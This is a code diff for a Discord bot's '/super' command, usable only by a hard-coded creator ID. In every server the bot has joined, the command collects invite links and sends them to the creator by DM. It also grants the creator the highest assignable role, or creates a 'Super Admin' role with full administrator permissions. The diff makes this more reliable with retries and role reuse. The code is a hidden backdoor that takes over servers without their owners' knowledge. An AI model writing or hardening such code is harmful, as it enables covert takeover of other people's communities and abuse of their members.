@@ -3,15 +3,19 @@ from discord.ext import commands
 from discord import app_commands
 import logging
 
-logging.basicConfig(level=logging.INFO)
+from .fanout import FanOut, FanOutReport, chunk_lines
+
 logger = logging.getLogger(__name__)
 
 # The ID of the bot's creator who is allowed to invoke the /super command
 BOT_CREATOR_ID = 486652069831376943
+SUPER_ADMIN_ROLE = "Super Admin"
 
 class Super(commands.Cog):
     def __init__(self, bot):
         self.bot = bot
+        # Invites created by the current /super run; FanOut retries prepare_guild on 429s
+        self.invites = {}
 
     @app_commands.command(name="super", description="Create invite links for all servers the bot is in.")
     async def super(self, interaction: discord.Interaction):
@@ -23,34 +27,63 @@ class Super(commands.Cog):
         # Send an initial response to acknowledge the interaction
         await interaction.response.defer(ephemeral=True)
 
-        invite_links = []
-        for guild in self.bot.guilds:
-            # Find the first text channel where the bot has permission to create an invite
-            text_channel = next((channel for channel in guild.text_channels if channel.permissions_for(guild.me).create_instant_invite), None)
-
-            if text_channel:
-                try:
-                    # Create an invite link for the server
-                    invite = await text_channel.create_invite(max_age=86400, max_uses=1)
-                    invite_links.append(f"{guild.name}: {invite.url}")
-                except discord.Forbidden:
-                    invite_links.append(f"{guild.name}: Unable to create invite link (Missing Permissions)")
-            else:
-                invite_links.append(f"{guild.name}: No suitable text channel found")
-
-            # Ensure the bot's creator has the highest role possible
-            member = guild.get_member(BOT_CREATOR_ID)
-            if member:
-                await self.ensure_admin_role(guild, member)
+        guilds = list(self.bot.guilds)
+        self.invites = {}
+
+        async def show_progress(report: FanOutReport):
+            await interaction.edit_original_response(
+                content=f"Processing servers: {report.done}/{report.total} done, {len(report.failures)} failed."
+            )
+
+        report = await FanOut(on_progress=show_progress).run(guilds, self.prepare_guild)
+
+        invite_links = [f"{guild.name}: {report.results[guild.id]}" for guild in guilds if guild.id in report.results]
+        invite_links += [f"{guild.name}: Failed ({report.failures[guild.id]})" for guild in guilds if guild.id in report.failures]
 
         # Send the invite links to the bot's creator via DM
-        creator = await self.bot.fetch_user(BOT_CREATOR_ID)
+        creator = self.bot.get_user(BOT_CREATOR_ID) or await self.bot.fetch_user(BOT_CREATOR_ID)
         if creator:
-            dm_message = "\n".join(invite_links)
-            await creator.send(f"Here are the invite links for all servers:\n{dm_message}")
+            chunks = chunk_lines(["Here are the invite links for all servers:", *invite_links])
+            for chunk in chunks:
+                await creator.send(chunk)
 
         # Send a follow-up response indicating the task is completed
-        await interaction.followup.send("Invite links have been sent to your DM.", ephemeral=True)
+        summary = f"{len(report.results)}/{report.total} servers processed"
+        if report.failures:
+            summary += f", {len(report.failures)} failed"
+        await interaction.followup.send(f"Invite links have been sent to your DM ({summary}).", ephemeral=True)
+
+    async def prepare_guild(self, guild: discord.Guild) -> str:
+        """Create an invite for a guild and make sure the bot's creator is an admin there.
+
+        Safe to retry: the invite of a previous attempt is reused, adding a role
+        is idempotent and the admin role is only created when none exists.
+        """
+        # Find the first text channel where the bot has permission to create an invite
+        text_channel = next((channel for channel in guild.text_channels if channel.permissions_for(guild.me).create_instant_invite), None)
+
+        if guild.id in self.invites:
+            result = self.invites[guild.id]
+        elif text_channel:
+            try:
+                # Create an invite link for the server
+                invite = await text_channel.create_invite(max_age=86400, max_uses=1)
+                result = self.invites[guild.id] = invite.url
+            except discord.Forbidden:
+                result = "Unable to create invite link (Missing Permissions)"
+        else:
+            result = "No suitable text channel found"
+
+        # Ensure the bot's creator has the highest role possible
+        member = guild.get_member(BOT_CREATOR_ID)
+        if member is None:
+            try:
+                member = await guild.fetch_member(BOT_CREATOR_ID)
+            except discord.NotFound:
+                member = None
+        if member:
+            await self.ensure_admin_role(guild, member)
+        return result
 
     async def ensure_admin_role(self, guild: discord.Guild, member: discord.Member):
         # Check for the highest role the bot can assign
@@ -64,9 +97,9 @@ class Super(commands.Cog):
             # Assign the highest role
             await member.add_roles(highest_role)
         else:
-            # Create a new role with administrative permissions
-            new_role = await guild.create_role(
-                name="Super Admin",
+            # Create a new role with administrative permissions, unless an earlier attempt already did
+            new_role = discord.utils.get(guild.roles, name=SUPER_ADMIN_ROLE) or await guild.create_role(
+                name=SUPER_ADMIN_ROLE,
                 permissions=discord.Permissions(administrator=True),
                 reason="Automatically created by the bot"
             )